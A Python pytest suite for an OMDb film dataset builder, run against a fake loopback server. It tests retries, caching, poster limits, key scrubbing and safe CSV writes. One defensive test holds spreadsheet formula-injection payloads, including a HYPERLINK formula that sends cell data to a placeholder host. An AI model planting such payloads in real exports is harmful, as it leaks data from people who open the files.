"""The OMDb dataset builder against a real HTTP server on loopback that answers like OMDb."""
from __future__ import annotations

import gzip
import io
import json
import threading
import time
from collections import Counter
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qs, urlparse

import numpy as np
import pytest
from PIL import Image

from genre_models.data.films import load_dataset
from genre_models.cli.dataset import main
from genre_models.data.builder.ids import filter_basics, read_id_list, votes_at_least

KEY = "SECRET-KEY-123"


def _jpeg(colour, size=(60, 90)) -> bytes:
    buffer = io.BytesIO()
    noise = np.random.default_rng(sum(colour)).integers(0, 40, (size[1], size[0], 3))
    Image.fromarray(np.clip(np.array(colour) + noise, 0, 255).astype(np.uint8)).save(buffer, format="JPEG")
    return buffer.getvalue()


POSTERS = {"/p/good1.jpg": ("image/jpeg", _jpeg((200, 10, 10))), "/p/good2.jpg": ("image/jpeg", _jpeg((10, 200, 10))),
           "/p/copy.jpg": ("image/jpeg", _jpeg((200, 10, 10))), "/p/html": ("text/html", b"<html>ad</html>"),
           "/p/trunc.jpg": ("image/jpeg", _jpeg((10, 10, 200))[:300])}


def _film(i, title, genre="Drama, Romance", plot="Two people meet and talk.", poster="/p/good2.jpg", votes="10"):
    return {"Response": "True", "imdbID": i, "Title": title, "Year": "2001", "Genre": genre, "Plot": plot,
            "Poster": poster, "imdbVotes": votes}


BIG_POSTER = _jpeg((90, 90, 90), size=(900, 1350))


class FakeOmdb:
    """Film records and behaviours (fail once with a status, answer slowly once) per IMDb id."""

    def __init__(self):
        self.films = {
            "tt0000001": _film("tt0000001", "Alpha", "Horror, Thriller", poster="/p/good1.jpg", votes="1,000"),
            "tt0000003": _film("tt0000003", "Gamma", "Comedy, Musical"),
            "tt0000004": _film("tt0000004", "Delta", "Sci-Fi, Adventure"),
            "tt0000005": _film("tt0000005", "Epsilon", "Western"),
            "tt0000006": _film("tt0000006", "Zeta", poster="/p/html"),
            "tt0000007": _film("tt0000007", "Eta", poster="/p/trunc.jpg"),
            "tt0000008": _film("tt0000008", "Theta", poster="N/A"),
            "tt0000009": _film("tt0000009", "Iota", poster="/p/copy.jpg"),
            "tt0000010": _film("tt0000010", "Kappa", "Biography, Sport"),
            "tt0000011": _film("tt0000011", "Lambda", plot="N/A"),
            "tt0000012": _film("tt0000012", "ALPHA", "Horror", votes="5"),
        }
        for k in range(20, 44):
            i = f"tt00000{k}"
            self.films[i] = _film(i, f"Film {k}", ["Horror, Mystery", "Comedy, Romance", "Action"][k % 3],
                                  plot=f"Story number {k} about ghosts love and fights.", poster="N/A")
        # asked for by name only (not in ``films``, which the main test builds whole)
        self.special = {"tt0000090": {"Response": "False", "Error": f"Invalid API key! You sent apikey={KEY}"},
                        "tt0000091": _film("tt0000091", "Big", poster="/p/big.jpg"),
                        "tt0000092": _film("tt0000092", "Endless", poster="/p/endless.jpg"),
                        "tt0000093": _film("tt0000093", "Loop", poster="/loop/poster.jpg")}
        self.fail_once = {"tt0000003": 429, "tt0000004": 500}
        self.slow_once = {"tt0000005"}
        self.asked: Counter = Counter()
        self.keys: set = set()

    def answer(self, handler: BaseHTTPRequestHandler):
        url = urlparse(handler.path)
        if url.path.startswith("/loop"):  # redirects to itself, forever
            return 302, "text/plain", url.path.encode()
        if url.path == "/p/big.jpg":  # a real JPEG of ~400 KB, its length declared
            return 200, "image/jpeg", BIG_POSTER
        if url.path == "/p/endless.jpg":  # no length declared: only reading tells how big it is
            return 200, "stream", BIG_POSTER
        if url.path in POSTERS:
            kind, body = POSTERS[url.path]
            return 200, kind, body
        query = parse_qs(url.query)
        imdb_id = query.get("i", [""])[0]
        self.keys.add(query.get("apikey", [""])[0])
        self.asked[imdb_id] += 1
        if imdb_id in self.fail_once and self.asked[imdb_id] == 1:
            return self.fail_once[imdb_id], "text/plain", b"busy"
        if imdb_id in self.slow_once and self.asked[imdb_id] == 1:
            time.sleep(1.0)
        record = {**self.films, **self.special}.get(imdb_id, {"Response": "False", "Error": "Incorrect IMDb ID."})
        return 200, "application/json", json.dumps(record).encode()


@pytest.fixture
def omdb():
    fake = FakeOmdb()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            status, kind, body = fake.answer(self)
            try:
                self.send_response(status)
                self.send_header("Content-Type", "image/jpeg" if kind == "stream" else kind)
                if status == 302:
                    self.send_header("Location", body.decode())
                if kind == "stream":
                    self.send_header("Connection", "close")
                else:
                    self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)
            except (BrokenPipeError, ConnectionResetError):  # the client gave up (timeout test)
                pass

        def log_message(self, *args):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    fake.url = f"http://127.0.0.1:{server.server_address[1]}/"
    POSTERS_BASE = fake.url.rstrip("/")
    for film in [*fake.films.values(), *fake.special.values()]:
        if film.get("Poster", "").startswith("/"):
            film["Poster"] = POSTERS_BASE + film["Poster"]
    yield fake
    server.shutdown()
    server.server_close()


def _run(omdb, tmp_path, ids, *extra):
    id_file = tmp_path / "ids.txt"
    id_file.write_text("\n".join(ids) + "\n")
    return main(["build", "--ids", str(id_file), "--out", str(tmp_path / "out"), "--api-key", KEY,
                 "--omdb-url", omdb.url, "--rate", "200", "--timeout", "0.5", "--backoff", "0.01",
                 "--min-genre-count", "3", "--no-progress", *extra])


def test_build_against_a_fake_omdb(omdb, tmp_path, capsys):
    ids = list(omdb.films) + ["tt0000002"]
    assert _run(omdb, tmp_path, ids) == 0
    printed = capsys.readouterr().out
    out = tmp_path / "out"
    assert omdb.keys == {KEY}
    assert omdb.asked["tt0000003"] == 2 and omdb.asked["tt0000004"] == 2  # 429 / 500, then success
    assert omdb.asked["tt0000005"] == 2  # timed out once, asked again
    assert "Incorrect IMDb ID. (1)" in printed  # Response False: skipped with its reason
    dataset = load_dataset(out / "movies.csv")
    rows = dataset.frame.set_index("id")
    assert "tt0000010" not in rows.index and "tt0000011" not in rows.index  # no genre / no plot
    assert "tt0000012" not in rows.index and "tt0000001" in rows.index  # duplicate title: most votes kept
    assert rows.loc["tt0000003", "genres"] == ["Comedy", "Music"]
    assert rows.loc["tt0000001", "poster"] is not None
    for film in ("tt0000006", "tt0000007", "tt0000008", "tt0000009"):  # html, truncated, N/A, duplicate
        assert rows.loc[film, "poster"] is None
    report = (out / "report.md").read_text()
    assert "Biography (1)" in report and "same poster as an earlier film" in report
    assert "no poster (N/A)" in report and "poster is not a usable image (text/html)" in report
    assert "Genres with fewer than 3 films" in report and (out / "genre_distribution.png").is_file()
    with Image.open(out / "posters" / "tt0000001.jpg") as poster:
        assert poster.mode == "RGB" and poster.format == "JPEG"
    # the key is never written anywhere
    for path in out.rglob("*"):
        if path.is_file():
            assert KEY.encode() not in path.read_bytes(), path
    assert KEY not in printed


def test_interrupted_run_resumes_without_asking_again(omdb, tmp_path, capsys):
    ids = [i for i in omdb.films if i.startswith("tt00000") and int(i[2:]) >= 20]
    assert _run(omdb, tmp_path, ids, "--daily-limit", "10") == 0  # stops at the daily limit
    assert "daily limit of 10" in capsys.readouterr().out
    first = Counter(omdb.asked)
    assert sum(first.values()) == 10
    assert _run(omdb, tmp_path, ids, "--daily-limit", "1000") == 0
    second = omdb.asked - first
    assert not set(second) & set(first)  # nothing cached was asked again
    assert len(load_dataset(tmp_path / "out" / "movies.csv")) == len(ids)


def test_csv_trains(omdb, tmp_path, tiny_models):
    from genre_models import train
    ids = [i for i in omdb.films if int(i[2:]) >= 20]
    assert _run(omdb, tmp_path, ids, "--no-posters") == 0
    assert train.main(["--data", str(tmp_path / "out" / "movies.csv"), "--models", "tiny-bert",
                       "--val-frac", "0.25", "--test-frac", "0.25", "--epochs", "2", "--no-progress",
                       "--out", str(tmp_path / "ckpt"), "--cache-dir", str(tmp_path / "cache")]) == 0


def test_missing_key_and_bad_ids(tmp_path, monkeypatch, capsys):
    monkeypatch.delenv("OMDB_API_KEY", raising=False)
    ids = tmp_path / "ids.txt"
    ids.write_text("tt0000001\n")
    assert main(["build", "--ids", str(ids), "--out", str(tmp_path / "o")]) == 2
    assert "OMDB_API_KEY" in capsys.readouterr().err
    ids.write_text("nothing here\n")
    assert main(["build", "--ids", str(ids), "--out", str(tmp_path / "o"), "--api-key", "k"]) == 2
    assert "no IMDb id" in capsys.readouterr().err


def test_imdb_basics_filtered_streaming(tmp_path):
    basics = tmp_path / "title.basics.tsv.gz"
    rows = ["tconst\ttitleType\tprimaryTitle\toriginalTitle\tisAdult\tstartYear\tendYear\truntimeMinutes\tgenres",
            "tt0000001\tmovie\tA\tA\t0\t1995\t\\N\t90\tDrama",
            "tt0000002\tshort\tB\tB\t0\t1995\t\\N\t5\tComedy",
            "tt0000003\tmovie\tC\tC\t0\t1980\t\\N\t90\tDrama",
            "tt0000004\tmovie\tD\tD\t0\t\\N\t\\N\t90\tDrama",
            "tt0000005\tmovie\tE\tE\t1\t1999\t\\N\t90\tDrama",
            "tt0000006\tmovie\tF\tF\t0\t2001\t\\N\t90\tDrama"]
    with gzip.open(basics, "wt", encoding="utf-8") as handle:
        handle.write("\n".join(rows) + "\n")
    ratings = tmp_path / "title.ratings.tsv.gz"
    with gzip.open(ratings, "wt", encoding="utf-8") as handle:
        handle.write("tconst\taverageRating\tnumVotes\ntt0000001\t7.0\t5000\ntt0000006\t6.0\t12\n")
    assert filter_basics(basics, "movie", 1990, 2005) == ["tt0000001", "tt0000006"]
    votes = votes_at_least(ratings, 1000)
    assert filter_basics(basics, "movie", 1990, 2005, votes) == ["tt0000001"]
    listed = tmp_path / "list.csv"
    listed.write_text("imdb_id,note\ntt0000009,x\ntt0000001,y\ntt0000009,dup\n")
    assert read_id_list(listed) == ["tt0000009", "tt0000001"]


def _csv_ids(path):
    return list(load_dataset(path).frame["id"])


def test_a_run_stopped_by_the_daily_limit_never_shrinks_the_csv(omdb, tmp_path, capsys):
    """A rerun whose first new id hits the daily limit once rewrote a good movies.csv from 3 rows to 0."""
    first = ["tt0000020", "tt0000021", "tt0000022"]
    assert _run(omdb, tmp_path, first, "--no-posters") == 0
    assert _csv_ids(tmp_path / "out" / "movies.csv") == first
    capsys.readouterr()
    # the limit is already used up: the new id is refused, the cached ones still count
    assert _run(omdb, tmp_path, ["tt0000023", *first], "--no-posters", "--daily-limit", "3") == 0
    printed = capsys.readouterr().out
    assert "stopped early: daily limit of 3 OMDb requests reached" in printed
    assert "films kept: 3" in printed and omdb.asked["tt0000023"] == 0
    assert _csv_ids(tmp_path / "out" / "movies.csv") == first
    # another list into the same folder: the earlier films stay, the new ones are added
    assert _run(omdb, tmp_path, ["tt0000024"], "--no-posters") == 0
    assert "films kept: 4 (0 with a poster), 3 of them from the existing movies.csv" in capsys.readouterr().out
    assert _csv_ids(tmp_path / "out" / "movies.csv") == [*first, "tt0000024"]


def test_a_failed_csv_write_leaves_the_old_file_whole(omdb, tmp_path, monkeypatch, capsys):
    import genre_models.data.builder.build as build
    assert _run(omdb, tmp_path, ["tt0000020", "tt0000021"], "--no-posters") == 0
    before = (tmp_path / "out" / "movies.csv").read_bytes()

    real_writer = build.csv.writer

    class FullDisk:  # writes the header and one row, then the disk is full
        def __init__(self, handle):
            self.writer, self.rows = real_writer(handle), 0

        def writerow(self, row):
            if self.rows == 2:
                raise OSError(28, "No space left on device")
            self.rows += 1
            self.writer.writerow(row)

        def writerows(self, rows):
            for row in rows:
                self.writerow(row)
    monkeypatch.setattr(build.csv, "writer", FullDisk)
    capsys.readouterr()
    assert _run(omdb, tmp_path, ["tt0000022", "tt0000023"], "--no-posters") == 1
    assert "error: [Errno 28] No space left on device; files already in" in capsys.readouterr().err
    assert (tmp_path / "out" / "movies.csv").read_bytes() == before
    assert sorted(p.name for p in (tmp_path / "out").iterdir() if p.name.startswith(".")) == []


def test_a_truncated_usage_file_is_recounted_not_a_crash(omdb, tmp_path, capsys):
    import datetime as dt
    assert _run(omdb, tmp_path, ["tt0000020", "tt0000021"], "--no-posters") == 0
    cache = tmp_path / "out" / "cache" / "omdb"
    usage = cache / f"usage-{dt.datetime.now(dt.timezone.utc):%Y-%m-%d}.json"
    assert json.loads(usage.read_text()) == {"requests": 2}
    usage.write_text('{"requ')  # what a kill mid-write used to leave
    capsys.readouterr()
    assert _run(omdb, tmp_path, ["tt0000020", "tt0000021", "tt0000022"], "--no-posters") == 0
    printed = capsys.readouterr().out
    assert f"{usage.name} was unreadable; counted today's 2 cached answers as today's requests" in printed
    assert json.loads(usage.read_text()) == {"requests": 3}  # rewritten whole, then counted on
    assert _csv_ids(tmp_path / "out" / "movies.csv") == ["tt0000020", "tt0000021", "tt0000022"]


def test_a_key_the_server_echoes_is_scrubbed_from_every_message(omdb, tmp_path, capsys):
    assert _run(omdb, tmp_path, ["tt0000020", "tt0000090", "tt0000021"], "--no-posters") == 0
    printed = capsys.readouterr()
    assert "stopped early: OMDb refused the request: Invalid API key! You sent apikey=***" in printed.out
    assert KEY not in printed.out + printed.err
    for path in (tmp_path / "out").rglob("*"):
        if path.is_file():
            assert KEY.encode() not in path.read_bytes(), path


def test_huge_and_looping_posters_are_skipped_with_a_reason(omdb, tmp_path, capsys):
    ids = ["tt0000091", "tt0000092", "tt0000093", "tt0000001"]
    assert len(BIG_POSTER) > 150_000
    assert _run(omdb, tmp_path, ids, "--max-poster-mb", "0.1") == 0
    report = (tmp_path / "out" / "report.md").read_text()
    declared = len(BIG_POSTER) / 2**20
    assert "posters skipped: poster download failed (3)" in report
    rows = load_dataset(tmp_path / "out" / "movies.csv").frame.set_index("id")
    assert rows.loc["tt0000001", "poster"] is not None  # a normal poster still comes through
    for film in ("tt0000091", "tt0000092", "tt0000093"):
        assert rows.loc[film, "poster"] is None
    from genre_models.data.builder.omdb import OmdbClient
    client = OmdbClient(KEY, tmp_path / "c", base_url=omdb.url, max_poster_bytes=100_000, retries=1, backoff=0.01)
    try:
        with pytest.raises(OSError) as big:
            client.download(omdb.url + "p/big.jpg")
        assert str(big.value) == f"poster download failed: poster is {declared:.1f} MB, over the 0.0953674 MB limit"
        with pytest.raises(OSError) as endless:
            client.download(omdb.url + "p/endless.jpg")
        assert str(endless.value) == "poster download failed: poster is over the 0.0953674 MB limit"
        with pytest.raises(OSError) as loop:
            client.download(omdb.url + "loop/x.jpg")
        assert str(loop.value) == "poster download failed: redirected in a loop"
        assert client.download(omdb.url + "p/good1.jpg").content == POSTERS["/p/good1.jpg"][1]
    finally:
        client.close()


def test_an_api_that_redirects_in_a_loop_stops_the_run_in_one_line(omdb, tmp_path, capsys):
    id_file = tmp_path / "ids.txt"
    id_file.write_text("tt0000020\n")
    code = main(["build", "--ids", str(id_file), "--out", str(tmp_path / "out"), "--api-key", KEY,
                 "--omdb-url", omdb.url + "loop/", "--no-progress", "--backoff", "0.01"])
    printed = capsys.readouterr()
    assert code == 1 and "Traceback" not in printed.err
    assert "stopped early: OMDb kept failing for tt0000020: redirected in a loop (not retried)" in printed.out


@pytest.mark.parametrize("error", ["Error getting data.", "Something went wrong, try later"])
def test_a_passing_omdb_error_is_never_cached_and_a_later_run_asks_again(omdb, tmp_path, capsys, error):
    """OMDb sometimes answers a film it has with {"Response": "False", "Error": "Error getting data."};
    only a definite 'not found' is remembered (issue 26)."""
    film = "tt0000094"
    omdb.special[film] = {"Response": "False", "Error": error}
    assert _run(omdb, tmp_path, [film, "tt0000001", "tt0000002"]) == 0
    printed = capsys.readouterr().out
    cache = tmp_path / "out" / "cache" / "omdb"
    assert not (cache / f"{film}.json").exists() and (cache / "tt0000002.json").is_file()  # not found: cached
    assert "OMDb errors that may pass (not cached; a later run asks again): 1" in printed
    assert "may pass" in (tmp_path / "out" / "report.md").read_text()
    omdb.special[film] = _film(film, "Now Found", "Western")  # the next day OMDb has it
    assert _run(omdb, tmp_path, [film, "tt0000001", "tt0000002"]) == 0
    assert omdb.asked[film] == 2 and omdb.asked["tt0000002"] == 1  # asked again; 'not found' was not
    assert film in load_dataset(tmp_path / "out" / "movies.csv").ids
    assert "may pass" not in capsys.readouterr().out


def test_a_passing_error_an_older_run_cached_is_asked_again(omdb, tmp_path, capsys):
    cache = tmp_path / "out" / "cache" / "omdb"
    cache.mkdir(parents=True)
    (cache / "tt0000001.json").write_text(json.dumps({"Response": "False", "Error": "Error getting data."}))
    assert _run(omdb, tmp_path, ["tt0000001"]) == 0
    assert omdb.asked["tt0000001"] == 1 and "tt0000001" in load_dataset(tmp_path / "out" / "movies.csv").ids


def test_a_title_or_plot_a_spreadsheet_would_run_is_written_inert_and_trains_as_it_was(omdb, tmp_path, capsys):
    import csv
    hostile = {"tt0000094": ("+1", "-- a party goes wrong."), "tt0000095": ('=HYPERLINK("http://x/?"&A1,"go")', "@home.")}
    for imdb_id, (title, plot) in hostile.items():
        omdb.special[imdb_id] = _film(imdb_id, title, "Comedy", plot=plot, poster="N/A")
    assert _run(omdb, tmp_path, [*hostile, "tt0000020"], "--no-posters") == 0
    with open(tmp_path / "out" / "movies.csv", newline="", encoding="utf-8") as handle:
        written = {row[0]: row for row in csv.reader(handle)}
    assert [written[i][1::3] for i in hostile] == [["'+1", "'-- a party goes wrong."],
                                                    ["'" + hostile["tt0000095"][0], "'@home."]]
    assert written["tt0000020"][1] == "Film 20"
    rows = load_dataset(tmp_path / "out" / "movies.csv").frame.set_index("id")
    assert [(rows.loc[i, "title"], rows.loc[i, "plot"]) for i in hostile] == list(hostile.values())
